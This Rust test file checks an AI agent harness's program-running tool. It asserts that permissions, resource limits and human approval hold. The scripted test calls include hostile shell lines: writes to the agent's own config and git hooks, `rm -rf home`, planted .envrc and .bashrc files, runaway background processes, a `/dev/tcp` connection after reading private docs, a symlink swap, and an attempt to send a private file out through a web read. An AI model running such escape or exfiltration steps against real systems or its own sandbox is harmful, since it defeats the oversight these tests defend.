//! `run.program`: what the agent file names runs, and reaches what the agent was granted.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::symlink;

use serde_json::{Value, json};

use crate::place::{Place, Ran, call, say};

/// A call of a program with these arguments.
fn program(words: &[&str]) -> (&'static str, Value) {
    ("run.program", json!({ "program": words[0], "arguments": words[1..] }))
}

/// An agent that may read `docs` and write `out`, with these lines in `[permissions]` and after it, and
/// its calls one by one.
fn agent(place: &Place, more: &str, calls: &[(&str, Value)]) {
    let mut replies: Vec<Value> =
        calls.iter().map(|(tool, with)| call([(tool, with.clone())])).collect();
    replies.push(say("done"));
    let tables = format!(
        "[tools]\nuse = [\"run.program\", \"files.read\"]\n[permissions]\nread = [\"docs\"]\n\
         write = [\"out\"]\n{more}\n"
    );
    place.write("docs/a.txt", "alpha\n").write("private.txt", "secret\n");
    place.agent("act = \"tools\"", &tables, &replies);
}

fn told(place: &Place) -> Vec<String> {
    let ran = place.run();
    assert_eq!(ran.code, Some(0), "{ran}");
    ran.observations()
}

fn shell(script: &str) -> (&'static str, Value) {
    program(&["sh", "-c", script])
}

#[test]
fn a_program_reads_and_writes_what_the_agent_may() {
    let place = Place::new();
    let script = "cat docs/a.txt; cat private.txt; echo x > out/new; echo x > docs/new; echo x > new; \
                  cat; exit 3";
    let (tool, mut with) = shell(script);
    with["input"] = json!("what it is given");
    agent(&place, "run = [\"sh\"]", &[(tool, with), program(&["sh", "-c", "true"])]);
    let told = told(&place);
    assert!(
        told[0].starts_with("exit code 3\nalpha\nwhat it is given\nstandard error:\n"),
        "{told:?}"
    );
    assert_eq!(told[0].matches("No such file").count(), 1, "{told:?}");
    assert_eq!(told[1], "it ended well and wrote nothing");
    assert_eq!(place.read("out/new"), "x\n");
    assert!(!place.path("docs/new").exists() && !place.path("new").exists());
}

#[test]
fn only_what_is_named_runs_and_other_arguments_are_asked_for() {
    let place = Place::new();
    let run = "run = [\"cat docs/a.txt\", \"head -n *\"]";
    agent(
        &place,
        run,
        &[
            program(&["cat", "docs/a.txt"]),
            program(&["head", "-n", "1", "docs/a.txt"]),
            program(&["head", "docs/a.txt"]),
        ],
    );
    let ran = place.run();
    assert_eq!(ran.code, Some(3), "{ran}");
    assert!(ran.out.contains("running `head` with these arguments needs a person's yes"), "{ran}");
    let ran = place.approve(&ran);
    assert_eq!(ran.code, Some(0), "{ran}");
    // One that is not named is no word that the model could have meant.
    agent(&place, run, &[program(&["id"])]);
    assert!(told(&place)[0].contains("wrong arguments for `run.program`"));
}

#[test]
fn what_no_agent_may_write_is_named_in_an_argument() {
    let place = Place::new();
    let script = "for f in agent.toml errand.lock .git/hooks/pre-commit; do echo x >> $f; done; \
                  mv .git moved; rm -rf home; ls home";
    let (tool, mut with) = shell(script);
    with["arguments"] = json!(["-c", script, "agent.toml", "errand.lock", ".git/hooks/pre-commit"]);
    place.write("errand.lock", "").write(".git/hooks/pre-commit", "");
    agent(&place, "run = [\"sh\"]", &[(tool, with)]);
    let text = place.read("agent.toml").replace("write = [\"out\"]", "write = [\".\"]");
    place.write("agent.toml", &text);
    let told = told(&place);
    assert_eq!(place.read("agent.toml"), text, "{told:?}");
    assert_eq!(place.read("errand.lock") + &place.read(".git/hooks/pre-commit"), "", "{told:?}");
    assert!(!place.path("moved").exists() && place.home().join("cache").exists());
}

/// What was there stays, whatever a file beside it would make of it.
#[test]
fn a_file_that_a_program_makes_turns_what_was_there_into_a_repository() {
    let place = Place::new();
    let script = "touch lib/HEAD; echo x > lib/config; mkdir hidden; echo x > hidden/.envrc; \
                  chmod 311 hidden";
    agent(&place, "run = [\"sh\"]", &[shell(script)]);
    place.write("lib/hooks/use.js", "mine");
    let text = place.read("agent.toml").replace("write = [\"out\"]", "write = [\".\"]");
    place.write("agent.toml", &text);
    let told = told(&place).remove(0);
    assert!(told.contains("removed again"), "{told}");
    assert_eq!(place.read("lib/hooks/use.js"), "mine");
    for name in ["lib/HEAD", "lib/config", "hidden/.envrc"] {
        assert!(!place.path(name).exists(), "{name}: {told}");
    }
}

/// The call is given up while the program runs, and what it made goes all the same.
#[test]
fn what_no_agent_may_write_is_made_by_a_call_that_is_given_up() {
    let place = Place::new();
    let script = "echo x > .envrc; echo x > started; while :; do echo x > .envrc; done";
    agent(&place, "run = [\"sh\"]", &[shell(script)]);
    let text = place.read("agent.toml").replace("write = [\"out\"]", "write = [\".\"]");
    place.write("agent.toml", &text);
    let mut errand = place.command(["run", "agent.toml"]).spawn().unwrap();
    while !place.path("started").exists() {
        assert!(errand.try_wait().unwrap().is_none(), "it ended by itself");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let pid = rustix::process::Pid::from_child(&errand);
    rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
    errand.wait().unwrap();
    assert!(!place.path(".envrc").exists());
}

/// A program that a signal ends has an exit code that says so, as in a shell.
#[test]
fn a_program_crashes() {
    let place = Place::new();
    let python = crate::mcp::python();
    let path = python.program.to_str().unwrap();
    let more = format!("run = [{path:?}]\n[programs]\nread = {}", json!(python.folders));
    agent(&place, &more, &[program(&[path, "-c", "import ctypes; ctypes.string_at(0)"])]);
    let told = told(&place).remove(0);
    assert!(told.starts_with("exit code 139"), "{told}");
}

/// Nothing can be mounted over what is not there.
#[test]
fn what_no_agent_may_write_is_made_where_there_was_none() {
    let place = Place::new();
    let script = "mkdir -p sub/.git/hooks; echo x > sub/.git/hooks/pre-commit; echo x > .envrc; \
                  printf 'name = \"n\"\\ntask = \"t\"\\n' > other.toml; ln -s docs .bashrc; echo kept > a.txt";
    agent(&place, "run = [\"sh\"]", &[shell(script)]);
    let text = place.read("agent.toml").replace("write = [\"out\"]", "write = [\".\"]");
    place.write("agent.toml", &text);
    let told = told(&place).remove(0);
    assert!(told.contains("which no agent may write: removed again"), "{told}");
    for name in ["sub/.git", ".envrc", "other.toml", ".bashrc"] {
        assert!(
            told.contains(name) && place.path(name).symlink_metadata().is_err(),
            "{name}: {told}"
        );
    }
    assert_eq!(place.read("a.txt") + &place.read("docs/a.txt"), "kept\nalpha\n");
}

#[test]
fn a_granted_folder_becomes_a_link_between_two_calls() {
    let place = Place::new();
    place.write("elsewhere/theirs.txt", "theirs").write("out/.keep", "");
    agent(&place, "run = [\"ls out\"]", &[program(&["ls", "out"]), program(&["ls", "."])]);
    let ran = place.run();
    assert_eq!(ran.code, Some(3), "{ran}");
    fs::rename(place.path("out"), place.path("was")).unwrap();
    symlink(place.path("elsewhere"), place.path("out")).unwrap();
    let ran = place.approve(&ran);
    assert!(!ran.out.contains("theirs") && ran.code != Some(0), "{ran}");
}

#[test]
fn a_program_uses_too_much_and_takes_too_long() {
    let place = Place::new();
    let hungry = "x=$(head -c 300000000 /dev/zero | tr '\\0' x); echo $?; sleep 20";
    let limits = "run = [\"sh\"]\n[programs]\ntimeout = \"3s\"\nmemory = \"128MiB\"";
    let forgets = "(while :; do echo x >> out/alive; sleep 0.05; done) & echo started; wait";
    let hungry_together = "for n in 1 2 3 4; do \
                           (head -c 60000000 /dev/zero; sleep 20) | tail -c 60000000 >/dev/null & done; wait";
    agent(&place, limits, &[shell(hungry), shell(forgets), shell(hungry_together)]);
    let ran = place.run();
    let told = ran.observations();
    assert!(told[2].starts_with("`sh` was ended: it used more than 128 MiB of memory"), "{told:?}");
    assert!(told[0].starts_with("exit code ") && !told[0].ends_with("\n0"), "{told:?}");
    assert!(told[1].contains("was stopped after 3 s") && told[1].contains("started"), "{told:?}");
    let alive = || fs::metadata(place.path("out/alive")).unwrap().len();
    let then = alive();
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(then, alive());
}

/// Pages in `/tmp` and bytes in pipes are in no process, so only a control group counts them.
#[test]
fn a_program_fills_what_no_process_has() {
    if let Err(reason) = guard::cgroup::Group::make(1 << 30, 16) {
        eprintln!("left out: this user may not make a control group here: {reason}");
        return;
    }
    let place = Place::new();
    let limits = "run = [\"sh\"]\n[programs]\ntimeout = \"20s\"\nmemory = \"64MiB\"";
    let fills = "head -c 120000000 /dev/zero > /tmp/much; echo $?; sleep 20";
    let frugal = "head -c 20000000 /dev/zero > /tmp/much; echo $?";
    agent(&place, limits, &[shell(fills), shell(frugal)]);
    let told = place.run().observations();
    assert!(told[0].starts_with("`sh` was ended: it used more than 64 MiB of memory"), "{told:?}");
    assert_eq!(told[1], "0");
}

/// What a program is told can carry out what the model has read; what it reads by itself is named.
#[test]
fn a_program_with_a_network_carries_private_files_out() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected; cat docs/a.txt");
    let bash = || program(&["bash", "-c", &connect]);
    let place = Place::new();
    agent(&place, "run = [\"bash\"]", &[bash()]);
    let alone = told(&place).remove(0);
    assert!(!alone.contains("connected") && alone.contains("alpha"), "{alone}");
    let open = "run = [\"bash\"]\n[programs]\nnetwork = \"open\"";
    agent(&place, open, &[bash()]);
    let connected = told(&place).remove(0);
    assert!(connected.contains("connected") && !connected.contains("alpha"), "{connected}");
    agent(&place, open, &[("files.read", json!({ "path": "docs/a.txt" })), bash()]);
    let ran = place.run();
    assert_eq!(ran.code, Some(3), "{ran}");
    assert!(ran.out.contains("its arguments could carry them out"), "{ran}");
}

/// What a program wrote is as private as what the run had read.
#[test]
fn a_program_writes_a_private_file_for_another_run() {
    let place = Place::new();
    place.write("out/.keep", "");
    agent(&place, "run = [\"sh\"]", &[shell("cp docs/a.txt out/copy.txt")]);
    told(&place);
    let tables = "[tools]\nuse = [\"files.read\", \"web.read\"]\n[permissions]\nread = [\"out\"]\n\
                  write = [\"out\"]\nnet = [\"public\"]\n";
    let page = json!({ "url": "https://iban-de00123.invalid/x" });
    let calls = [("files.read", json!({ "path": "out/copy.txt" })), ("web.read", page)];
    let calls: Vec<Value> = calls.into_iter().map(|it| call([it])).collect();
    place.agent("act = \"tools\"", tables, &calls);
    let ran = place.run();
    assert_eq!(ran.code, Some(3), "{ran}");
    assert!(ran.out.contains("`iban-de00123.invalid` is not granted in full"), "{ran}");
}

#[test]
fn what_cannot_be_meant_is_said() {
    let refused = |use_: &str, permissions: &str| -> Ran {
        let place = Place::new();
        let tables = format!("[tools]\nuse = [{use_}]\n[permissions]\n{permissions}\n");
        place.agent("act = \"tools\"", &tables, &[say("done")]);
        let ran = place.errand(["validate", "agent.toml"]);
        assert_eq!(ran.code, Some(2), "{ran}");
        ran
    };
    for (use_, permissions, said) in [
        ("\"run.program\"", "", "`run.program` has no program to run"),
        ("", "run = [\"git\"]", "the agent does not use the tool `run.program`"),
        ("\"run.program\"", "run = [\"git sta*\"]", "`git sta*` is a pattern"),
        ("\"run.program\"", "run = [\"\"]", "names no program"),
        ("", "[programs]\ntimeout = \"1s\"", "no program is named that this could be of"),
        ("\"run.program\"", "run = [\"git\"]\n[programs]\nmemory = \"9GiB\"", "at most `4GiB`"),
        ("\"run.program\"", "run = [\"git\"]\n[programs]\nread = [\"no\"]", "there is no `no`"),
    ] {
        let ran = refused(use_, permissions);
        assert!(ran.err.contains(said), "{said}: {ran}");
    }
}
